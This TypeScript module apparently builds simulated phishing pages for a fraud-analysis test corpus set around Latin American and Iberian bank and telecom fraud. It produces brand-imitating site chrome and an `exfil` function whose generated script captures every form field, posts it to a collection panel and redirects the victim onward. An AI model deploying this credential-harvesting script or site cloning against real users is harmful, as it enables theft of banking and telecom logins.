import type { Route } from '../../corpus/corpus.js';
import { htmlRoute } from '../entry.js';
import { jsonRoute, jsRoute, pngRoute } from './e-bin.js';

/**
 * Page furniture for the `zd-` pages (a LatAm / Iberian bank-and-telecom fraud desk's month): document
 * shells, legit-site chrome (header, nav, footer, cookie notice, first-party analytics), and the
 * form-posting script most phishing kits of the region carry. No pages here.
 */

export type Lang = 'es' | 'pt' | 'en';

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** A bare HTML document. */
export function doc(o: { lang: Lang | string; title: string; css?: string; head?: string; body: string; bodyAttrs?: string }): string {
  return `<!DOCTYPE html>
<html lang="${o.lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.head ?? ''}
<style>${o.css ?? ''}</style>
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

const cookieMsg: Record<string, [string, string, string]> = {
  es: ['Usamos cookies propias y de terceros para fines analíticos y para mostrarte publicidad personalizada en base a un perfil elaborado a partir de tus hábitos de navegación.', 'Aceptar todas', 'Configurar'],
  pt: ['Utilizamos cookies essenciais e tecnologias semelhantes de acordo com a nossa Política de Privacidade e, ao continuar navegando, você concorda com estas condições.', 'Aceitar', 'Preferências'],
  en: ['We use cookies to make our site work and to understand how you use it.', 'Accept', 'Manage'],
};

/** Cookie notice as legit sites carry it (dismiss stored in localStorage). */
export function cookieNotice(lang: Lang, policy = '/privacidad'): string {
  const [m, ok, cfg] = cookieMsg[lang] ?? cookieMsg.es!;
  return `<div id="cookie-notice" style="position:fixed;bottom:0;left:0;right:0;background:#1d1d1f;color:#eee;padding:14px 24px;font-size:13px;display:flex;gap:16px;align-items:center;z-index:50">
<span style="flex:1">${m} <a href="${policy}" style="color:#9cf">Más información</a></span>
<button type="button" onclick="try{localStorage.setItem('ck','1')}catch(e){};this.parentNode.remove()" style="background:#fff;color:#111;border:0;padding:8px 16px;border-radius:3px">${ok}</button>
<button type="button" style="background:none;color:#fff;border:1px solid #777;padding:8px 16px;border-radius:3px">${cfg}</button>
</div><script>try{if(localStorage.getItem('ck'))document.getElementById('cookie-notice').remove()}catch(e){}</script>`;
}

/** First-party analytics as big sites serve it (dataLayer plus a beacon to their own collector route). */
export function analytics(collector: string, site: string): string {
  return `<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','${site}',{anonymize_ip:true});
(function(){try{var d={p:location.pathname,r:document.referrer,t:Date.now(),s:'${site}'};navigator.sendBeacon&&navigator.sendBeacon('${collector}',JSON.stringify(d))}catch(e){}})();</script>`;
}

export type Brand = { name: string; color: string; accent?: string; logo?: string; font?: string };

/**
 * Legit-site chrome: top utility bar, header with logo and nav, main content, a fat footer with
 * regulatory text. `legal` is the regulator/company line that real footers carry.
 */
export function site(o: {
  lang: Lang;
  title: string;
  brand: Brand;
  nav: string[];
  util?: string[];
  main: string;
  legal: string;
  footerCols?: Record<string, string[]>;
  head?: string;
  css?: string;
  scripts?: string;
  cookies?: boolean;
}): string {
  const b = o.brand;
  const cols = o.footerCols ?? {};
  const slug = (s: string) => '/' + s.toLowerCase().normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
  const footer = Object.entries(cols)
    .map(([h, links]) => `<div class="fcol"><h4>${h}</h4><ul>${links.map((l) => `<li><a href="${slug(l)}">${l}</a></li>`).join('')}</ul></div>`)
    .join('\n');
  return doc({
    lang: o.lang,
    title: o.title,
    head: `<link rel="icon" href="/favicon.ico">${o.head ?? ''}`,
    css: `*{box-sizing:border-box}body{margin:0;font-family:${b.font ?? "'Helvetica Neue',Arial,sans-serif"};color:#222;background:#fff}
a{color:${b.color}}.util{background:#f2f2f2;font-size:12px;padding:6px 32px;display:flex;gap:18px;justify-content:flex-end}.util a{color:#555;text-decoration:none}
header.top{display:flex;align-items:center;gap:28px;padding:14px 32px;border-bottom:3px solid ${b.color}}
header.top .logo{font-weight:800;font-size:24px;color:${b.color};text-decoration:none;display:flex;align-items:center;gap:8px}
header.top .logo img{width:32px;height:32px}header.top nav a{margin-right:18px;color:#333;text-decoration:none;font-size:15px}
main{max-width:1120px;margin:0 auto;padding:28px 32px 60px}
.btn{display:inline-block;background:${b.color};color:#fff;padding:11px 22px;border-radius:4px;text-decoration:none;border:0;font-size:15px;cursor:pointer}
.btn.sec{background:#fff;color:${b.color};border:1px solid ${b.color}}
.card{border:1px solid #e3e3e3;border-radius:8px;padding:20px;margin:12px 0;background:#fff}
.grid{display:grid;grid-template-columns:repeat(auto-fit,minmax(230px,1fr));gap:18px}
label{display:block;font-size:13px;margin:12px 0 4px;color:#444}input,select{width:100%;padding:10px;border:1px solid #bbb;border-radius:4px;font-size:15px}
table{border-collapse:collapse;width:100%}td,th{border-bottom:1px solid #eee;padding:8px;text-align:left;font-size:14px}
footer.site{background:#2b2b2b;color:#bbb;padding:36px 32px;font-size:13px}footer.site a{color:#ddd;text-decoration:none}
.fcols{display:flex;gap:48px;flex-wrap:wrap}.fcol ul{list-style:none;padding:0;margin:0}.fcol li{margin:6px 0}.fcol h4{color:#fff;margin:0 0 8px}
.legal{margin-top:24px;border-top:1px solid #444;padding-top:14px;line-height:1.5}${o.css ?? ''}`,
    body: `${o.util ? `<div class="util">${o.util.map((u) => `<a href="${slug(u)}">${u}</a>`).join('')}</div>` : ''}
<header class="top"><a class="logo" href="/">${b.logo ? `<img src="${b.logo}" alt="">` : ''}${b.name}</a>
<nav>${o.nav.map((n) => `<a href="${slug(n)}">${n}</a>`).join('')}</nav></header>
<main>
${o.main}
</main>
<footer class="site"><div class="fcols">${footer}</div>
<div class="legal">${o.legal}</div></footer>
${o.cookies === false ? '' : cookieNotice(o.lang)}
${o.scripts ?? ''}`,
  });
}

/** The usual routes of a legit page: favicon, logo, analytics collector. */
export function siteRoutes(host: string, rgb: [number, number, number], extra: Record<string, Route> = {}): Record<string, Route> {
  return {
    [`${host}/favicon.ico`]: pngRoute(...rgb),
    [`${host}/static/img/logo.png`]: pngRoute(...rgb),
    [`${host}/collect`]: { status: 204, headers: {}, body: '' },
    ...extra,
  };
}

/**
 * The exfiltration step most regional kits carry: serialise the form, POST it (JSON or urlencoded) to a
 * panel endpoint, then move the victim on to the next step or to the real site.
 */
export function exfil(o: { form: string; endpoint: string; next: string; mode?: 'json' | 'form'; extra?: string; wait?: string }): string {
  const mode = o.mode ?? 'json';
  return `<script>
(function(){
var f=document.querySelector('${o.form}');if(!f)return;
f.addEventListener('submit',function(ev){ev.preventDefault();
var d={};Array.prototype.forEach.call(f.elements,function(el){if(el.name)d[el.name]=el.value});
d.ua=navigator.userAgent;d.ts=new Date().toISOString();${o.extra ?? ''}
var w=document.getElementById('${o.wait ?? 'wait'}');if(w)w.style.display='block';
var body=${mode === 'json' ? 'JSON.stringify(d)' : "Object.keys(d).map(function(k){return encodeURIComponent(k)+'='+encodeURIComponent(d[k])}).join('&')"};
fetch('${o.endpoint}',{method:'POST',headers:{'Content-Type':'${mode === 'json' ? 'application/json' : 'application/x-www-form-urlencoded'}'},body:body})
.then(function(){setTimeout(function(){location.href='${o.next}'},1800)})
.catch(function(){setTimeout(function(){location.href='${o.next}'},1800)});
});})();
</script>`;
}

/** A panel endpoint that answers OK. */
export const okRoute = (): Route => jsonRoute({ ok: true, status: 'recibido' });

export { htmlRoute, jsonRoute, jsRoute, pngRoute };
